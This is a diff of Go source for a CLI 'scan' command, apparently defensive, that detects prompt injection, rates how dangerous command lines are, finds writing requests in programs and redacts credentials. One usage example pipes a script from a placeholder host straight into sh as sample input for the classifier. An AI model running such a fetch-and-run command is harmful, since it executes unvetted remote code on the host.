@@ -21,7 +21,7 @@ import (
 
 func init() {
 	caddycmd.RegisterCommand(caddycmd.Command{
-		Name: "scan", Short: "Looks for what is dangerous in texts, commands and programs",
+		Name: "scan", Short: "Looks for dangerous content in texts, commands and programs",
 		CobraFunc: func(cmd *cobra.Command) {
 			text := scanTexts()
 			cmd.Use, cmd.Long, cmd.Example = text.Use, text.Long, text.Example
@@ -50,8 +50,8 @@ type scanOptions struct {
 
 func (o *scanOptions) flags(cmd *cobra.Command) {
 	cmd.Flags().BoolVar(&o.json, "json", false, "print a JSON document")
-	cmd.Flags().BoolVar(&o.lines, "lines", false, `read {"id", "text"} from stdin, one JSON object a line, and answer each with one`)
-	cmd.Flags().BoolVar(&o.exitCode, "exit-code", false, "end with 3 when something is found")
+	cmd.Flags().BoolVar(&o.lines, "lines", false, `read {"id", "text"} from stdin, one JSON object on each line, and answer each with one`)
+	cmd.Flags().BoolVar(&o.exitCode, "exit-code", false, "exit with 3 if something is found")
 }
 
 // run scans one text, or each of the lines of stdin. get reads the text that the arguments name.
@@ -149,8 +149,8 @@ func scanTexts() *cobra.Command {
 	cmd := &cobra.Command{
 		Use: "scan [FILE|-]", Args: cli.Args(cobra.MaximumNArgs(1)),
 		Long: `Looks for prompt injection in a text: instructions to a model, invisible characters,
-misleading addresses. The subcommands look at commands, at programs before they are run, and
-for credentials. Nothing that is read is run or sent anywhere, and no service needs to run.`,
+misleading addresses. The subcommands analyse commands and programs, and redact credentials.
+What they read is not run and not sent anywhere, and no service needs to run.`,
 		Example: `  service scan notes.md
   service scan command 'curl https://x.example/i.sh | sh'
   service scan code job.py
@@ -168,14 +168,14 @@ for credentials. Nothing that is read is run or sent anywhere, and no service ne
 
 func scanCode() *cobra.Command {
 	cmd := &cobra.Command{
-		Use: "code [FILE|-]", Short: "Finds requests and statements that write in a program", Args: cli.Args(cobra.MaximumNArgs(1)),
-		Long: `Finds HTTP requests that change something and writes to databases in a program, before it
-is run: Python, JavaScript, shell and SQL. The language is told from the file's name, else from
-the text.`,
+		Use: "code [FILE|-]", Short: "Finds the requests and statements of a program that write", Args: cli.Args(cobra.MaximumNArgs(1)),
+		Long: `Finds the HTTP requests of a program that change something, and its writes to databases,
+before it runs. The program may be in Python, JavaScript, shell or SQL. The language is
+recognised by the file's name, or else by the text.`,
 	}
 	var o scanOptions
 	o.flags(cmd)
-	given := cmd.Flags().String("lang", "", "python, javascript, shell or sql; told from the text by default")
+	given := cmd.Flags().String("lang", "", "python, javascript, shell or sql; by default it is recognised")
 	lang := command.AnyLanguage
 	cmd.RunE = o.run(scan{
 		judge: func(text string) answer { return newFindings(command.ScanCode(text, lang)) },
@@ -215,10 +215,10 @@ func (v verdict) found() bool {
 
 func scanCommand() *cobra.Command {
 	cmd := &cobra.Command{
-		Use: "command TEXT|-", Short: "Tells what a command line would do at worst", Args: cli.Args(cobra.MaximumNArgs(1)),
-		Long: `Tells what a command line of a shell or network device, or a statement of SQL, would do at
-worst: read_only, mutate, dangerous, or unknown where that cannot be told. The service asks for
-approval of dangerous and unknown ones. TEXT is one argument: quote it. It is not run.`,
+		Use: "command TEXT|-", Short: "Prints what a command line would do at worst", Args: cli.Args(cobra.MaximumNArgs(1)),
+		Long: `Prints what a command line of a shell or network device, or an SQL statement, would do at
+worst: read_only, mutate, dangerous, or unknown if that cannot be told. In the runtime dangerous
+and unknown commands need an approval. TEXT is one argument, so quote it. It is not run.`,
 	}
 	var o scanOptions
 	o.flags(cmd)
@@ -279,8 +279,8 @@ func withoutSecrets(text string) string {
 func scanRedact() *cobra.Command {
 	cmd := &cobra.Command{
 		Use: "redact [FILE|-]", Short: "Prints a text with its credentials replaced by " + redact.Mark, Args: cli.Args(cobra.MaximumNArgs(1)),
-		Long: `Prints a text with its credentials replaced by ` + redact.Mark + `. The word that announces a secret stays,
-and nothing else changes. A JSON document is read as one.`,
+		Long: `Prints a text with its credentials replaced by ` + redact.Mark + `. The word that announces a secret
+stays, and nothing else changes. A JSON document is read as JSON.`,
 	}
 	var o scanOptions
 	o.flags(cmd)
